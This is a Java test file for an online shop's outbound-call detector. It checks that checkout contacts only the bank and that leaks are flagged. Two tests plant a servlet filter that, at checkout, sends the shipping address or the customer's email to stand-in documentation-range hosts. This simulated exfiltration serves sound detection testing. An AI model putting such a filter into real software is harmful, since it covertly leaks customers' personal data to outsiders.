package shop.troth.proof.exits;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.servlet.http.HttpServletRequest;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import shop.troth.kernel.StoreId;
import shop.troth.policy.published.PublishedPolicies;
import shop.troth.proof.watch.WatchExits;
import shop.troth.stores.Stores;
import shop.troth.testing.Detects;
import shop.troth.testing.MeddlingInside;
import shop.troth.testing.RunningShop;

/** Whom the store calls while somebody buys: the bank, and nobody else. Who is called here is nobody (RFC 5737). */
@DisplayNameGeneration(ReplaceUnderscores.class)
class CalledStrangersTests {

    private static final RunningShop SHOP = RunningShop.get();
    private static final Duration SOON = Duration.ofMillis(50);

    @ParameterizedTest
    @ValueSource(strings = {"millipore", "perricone-md", "betty-mills"})
    @Tag("deep")
    void a_sound_store_calls_nobody_else(String store) {
        assertThat(look(store)).isEmpty();
    }

    @Test
    @Detects({"millipore.no-disclosure", "millipore.suppliers-bound"})
    @Tag("deep")
    void what_is_sent_to_somebody_in_no_register_is_seen() throws Exception {
        try (var meddling = MeddlingInside.with((request, response, chain) -> {
            if (isCheckout(request)) {
                asks("http://192.0.2.10/geocode?q="
                        + URLEncoder.encode(request.getParameter("shipping.line1"), StandardCharsets.UTF_8));
            }
            chain.doFilter(request, response);
        })) {
            var seen = look("millipore");

            assertThat(seen).containsOnlyKeys("no-disclosure", "suppliers-bound");
            assertThat(seen.get("suppliers-bound"))
                    .contains(
                            "In a test purchase, your shipping address was sent to a company that does no work for us.");
        }
    }

    @Test
    @Detects({"millipore.no-disclosure", "millipore.suppliers-bound"})
    void that_somebody_in_no_register_is_called_is_seen_whatever_they_are_told() throws Exception {
        try (var meddling = MeddlingInside.with((request, response, chain) -> {
            if (isCheckout(request)) {
                tells("https://192.0.2.11/collect", request.getParameter("email"));
            }
            chain.doFilter(request, response);
        })) {
            var seen = look("millipore");

            assertThat(seen).containsOnlyKeys("no-disclosure", "suppliers-bound");
            assertThat(seen.get("no-disclosure"))
                    .containsExactly(
                            "During a test purchase, a page of the store called a company that does no work for us (192.0.2.11). What it was told could not be seen.");
        }
    }

    @Test
    void each_way_to_call_is_heard_until_it_is_closed_and_goes_on_as_before() throws Exception {
        try (var server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            var heard = new CallCapture(new StoreId("millipore"), Set.of());
            try (heard) {
                asks("http://192.0.2.12/a");
                tells("http://192.0.2.13/b", "c");
                connects(server);
            }
            asks("http://192.0.2.14/d");

            assertThat(heard.addresses())
                    .contains("http://192.0.2.12/a", "http://192.0.2.13/b")
                    .anyMatch(it -> it.endsWith(":" + server.getLocalPort()))
                    .noneMatch(it -> it.contains("192.0.2.14"));
            assertThat(heard.strangers()).as("what no page called").isEmpty();
        }
    }

    private static void connects(ServerSocket server) throws IOException {
        try (var socket = new Socket()) {
            socket.connect(new InetSocketAddress(server.getInetAddress(), server.getLocalPort()));
            assertThat(socket.isConnected()).isTrue();
        }
    }

    private static void asks(String address) throws IOException {
        var connection = (HttpURLConnection) URI.create(address).toURL().openConnection();
        connection.setConnectTimeout((int) SOON.toMillis());
        try {
            connection.getResponseCode();
        } catch (IOException e) {
            // nobody is there
        } finally {
            connection.disconnect();
        }
    }

    private static void tells(String address, String what) throws IOException {
        var told = HttpRequest.newBuilder(URI.create(address))
                .POST(BodyPublishers.ofString(what))
                .build();
        try (var client = HttpClient.newBuilder().connectTimeout(SOON).build()) {
            client.send(told, BodyHandlers.discarding());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        } catch (IOException e) {
            // nobody is there
        }
    }

    private static boolean isCheckout(HttpServletRequest request) {
        return request.getRequestURI().equals("/checkout")
                && request.getMethod().equals("POST");
    }

    private static Map<String, List<String>> look(String store) {
        var id = new StoreId(store);
        return SHOP.bean(WatchExits.class)
                .look(
                        SHOP.bean(Stores.class).get(id),
                        SHOP.bean(PublishedPolicies.class).current(id),
                        false)
                .faults();
    }
}
